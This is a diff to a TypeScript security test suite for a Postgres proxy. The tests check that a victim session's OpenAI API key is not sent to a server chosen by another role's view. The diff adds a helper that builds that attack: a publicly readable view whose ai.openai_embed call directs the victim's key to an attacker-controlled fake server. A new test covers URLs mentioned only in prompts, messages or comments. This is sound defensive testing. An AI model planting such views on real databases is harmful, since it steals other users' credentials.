@@ -6,6 +6,7 @@
 import { randomBytes } from 'node:crypto';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
+import type pg from 'pg';
 import { describe, expect, it } from 'vitest';
 import { afterThisTest, freshDatabase } from '../support/database.js';
 import { startFakeProvider } from '../support/fake-provider.js';
@@ -151,12 +152,17 @@ describe('a secret the session handed the proxy', () => {
     return { direct, other, victim, attacker };
   }
 
+  /** A view of the other role's, readable by all, whose call sends the session's key to `server`. */
+  async function notesView(other: pg.Client, server: string): Promise<void> {
+    await other.query(`CREATE VIEW shared.notes AS SELECT 'hello'::text AS body
+                        WHERE (ai.openai_embed('m', 'x', client_config => '{"base_url": "${server}"}') IS NULL) IS NOT NULL`);
+    await other.query('GRANT SELECT ON shared.notes TO PUBLIC');
+  }
+
   it("is not sent by another role's view to a server that role chose", async () => {
     const { other, victim, attacker } = await sharedSchema();
     // Its rows are the same whether the call has its result yet (the proxy's collect pass) or not.
-    await other.query(`CREATE VIEW shared.notes AS SELECT 'hello'::text AS body
-                        WHERE (ai.openai_embed('m', 'x', client_config => '{"base_url": "${attacker.baseUrl}"}') IS NULL) IS NOT NULL`);
-    await other.query('GRANT SELECT ON shared.notes TO PUBLIC');
+    await notesView(other, attacker.baseUrl);
     await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
     await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes`)).rejects.toMatchObject({
       code: '42501',
@@ -167,6 +173,22 @@ describe('a secret the session handed the proxy', () => {
     // Named by the victim in its own statement, the same server is the victim's choice.
     await victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes WHERE '${attacker.baseUrl}' IS NOT NULL`);
     expect(attacker.requests.map((request) => request.authorization)).toContain(`Bearer ${VICTIM_KEY}`);
+  });
+
+  // Review34: any URL in any statement or parameter counted as the session's naming of a server, so a document the
+  // session embedded or a message it sent that mentioned the view owner's server made it the session's choice.
+  it("is not sent by another role's view to a server the session mentioned only in a prompt, a message or a comment", async () => {
+    const { other, victim, attacker } = await sharedSchema();
+    await notesView(other, attacker.baseUrl);
+    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
+    await victim.query(`SELECT ai.openai_embed('m', 'the docs moved to ${attacker.baseUrl} last week') -- ${attacker.baseUrl}`);
+    await victim.query(`SELECT ai.openai_embed('m', $1)`, [`the docs moved to ${attacker.baseUrl}`]);
+    await victim.query(`SELECT ai.openai_chat_complete('m', $1)`, [JSON.stringify([{ role: 'user', content: attacker.baseUrl }])]);
+    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.notes`)).rejects.toMatchObject({ code: '42501' });
+    expect(attacker.requests).toEqual([]);
+    // A URL standing alone, as a constant or a parameter, names the server.
+    await victim.query(`SELECT ai.openai_embed('m', 'x', client_config => jsonb_build_object('base_url', $1::text))`, [attacker.baseUrl]);
+    expect(attacker.requests.map((request) => request.authorization)).toEqual([`Bearer ${VICTIM_KEY}`]);
   });
 
   it("is not sent to the server an embedding config another role's view hands ai.vectorizer_embed names", async () => {
